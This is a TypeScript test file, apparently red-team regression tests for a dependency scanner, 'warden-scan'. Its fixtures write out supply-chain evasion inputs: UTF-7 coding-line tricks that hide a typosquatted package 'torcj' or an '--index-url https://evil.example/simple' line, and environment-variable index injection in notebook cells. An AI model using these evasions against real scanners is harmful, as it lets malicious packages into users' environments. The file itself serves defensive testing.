/**
 * Red team 50c, static halves (kernel halves and pip controls:
 * tests/deps/test_redteam50c_static_agree.py).
 *
 * R50c-1 (HIGH): a requirements file pip decodes by its PEP 263 coding line (`# -*- coding:
 * utf-7 -*-`, then `#x +AAo-torcj`: a comment and the line `torcj` to pip) is read by
 * warden-scan as UTF-8: one comment, clean. The kernel refuses (requirements.pip_decode).
 *
 * R50c-2 (MED): `!IDX=URL pip install -r reqs.txt` with `--index-url ${IDX}` in reqs.txt: pip
 * expands the variable from the line's environment; warden-scan reads pip's requirements
 * files without the line's assignments (uv's get them), so the index is never decided.
 *
 * R50c-3 control (passes): warden-scan refuses a Poetry project's `torcj` dependency, which
 * the kernel's `pip install .` lets through.
 */
import * as fs from 'node:fs';
import * as path from 'node:path';
import {
  installRules,
  notebookRules,
  scratchDir,
  writeNotebook
} from '../testing/scan-fixture';

const UTF7_NAME = '# -*- coding: utf-7 -*-\n#x +AAo-torcj\nnumpy\n';
const UTF7_INDEX =
  '# -*- coding: utf-7 -*-\n#x +AAo---index-url https://evil.example/simple\nnumpy\n';

function folderRules(files: Record<string, string>): string[] {
  const dir = scratchDir('rt50c-');
  for (const [name, text] of Object.entries(files)) {
    fs.writeFileSync(path.join(dir, name), text);
  }
  return installRules([dir], dir);
}

function cellRules(files: Record<string, string>, cells: string[]): string[] {
  const dir = scratchDir('rt50c-nb-');
  for (const [name, text] of Object.entries(files)) {
    fs.writeFileSync(path.join(dir, name), text);
  }
  const notebook = path.join(dir, 'setup.ipynb');
  writeNotebook(notebook, cells);
  return installRules([notebook], dir);
}

describe('red team 50c R50c-1: a requirements file with a coding line', () => {
  it('control: the same lines written plainly are refused', () => {
    expect(folderRules({ 'requirements.txt': 'torcj\nnumpy\n' })).toContain(
      'install-imitation-name'
    );
  });

  it('a utf-7 requirements file hiding an imitation name is refused', () => {
    expect(folderRules({ 'requirements.txt': UTF7_NAME })).not.toEqual([]);
  });

  it('a utf-7 requirements file hiding an index is refused', () => {
    expect(folderRules({ 'requirements.txt': UTF7_INDEX })).not.toEqual([]);
  });

  it('a utf-7 include of a clean requirements file is refused', () => {
    expect(
      folderRules({
        'requirements.txt': '-r extra.txt\nnumpy\n',
        'extra.txt': UTF7_NAME
      })
    ).not.toEqual([]);
  });

  it('a cell installing the utf-7 file is refused', () => {
    expect(
      cellRules({ 'deps.txt': UTF7_NAME }, ['%pip install -r deps.txt'])
    ).not.toEqual([]);
  });
});

describe('red team 50c R50c-2: ${VAR} in a requirements file set by the line', () => {
  const files = { 'reqs.txt': '--index-url ${IDX}\nnumpy\n' };

  it('control: the index given on the line is refused', () => {
    expect(
      notebookRules('rt50c-ctl-', [
        '!pip install --index-url https://evil.example/simple numpy'
      ])
    ).toContain('install-index-not-allowed');
  });

  it.each([
    '!IDX=https://evil.example/simple pip install -r reqs.txt',
    '!export IDX=https://evil.example/simple; pip install -r reqs.txt'
  ])('%s is refused', cell => {
    expect(cellRules(files, [cell])).toContain('install-index-not-allowed');
  });
});

describe('red team 50c R50c-3 control: a Poetry project', () => {
  it('warden-scan refuses its torcj dependency', () => {
    const poetry =
      '[tool.poetry]\nname = "proj"\nversion = "0.1.0"\ndescription = ""\n' +
      'authors = ["A <a@b.c>"]\n\n[tool.poetry.dependencies]\npython = "^3.11"\n' +
      'torcj = "*"\n\n[build-system]\nrequires = ["poetry-core"]\n' +
      'build-backend = "poetry.core.masonry.api"\n';
    expect(folderRules({ 'pyproject.toml': poetry })).toContain(
      'install-imitation-name'
    );
  });
});
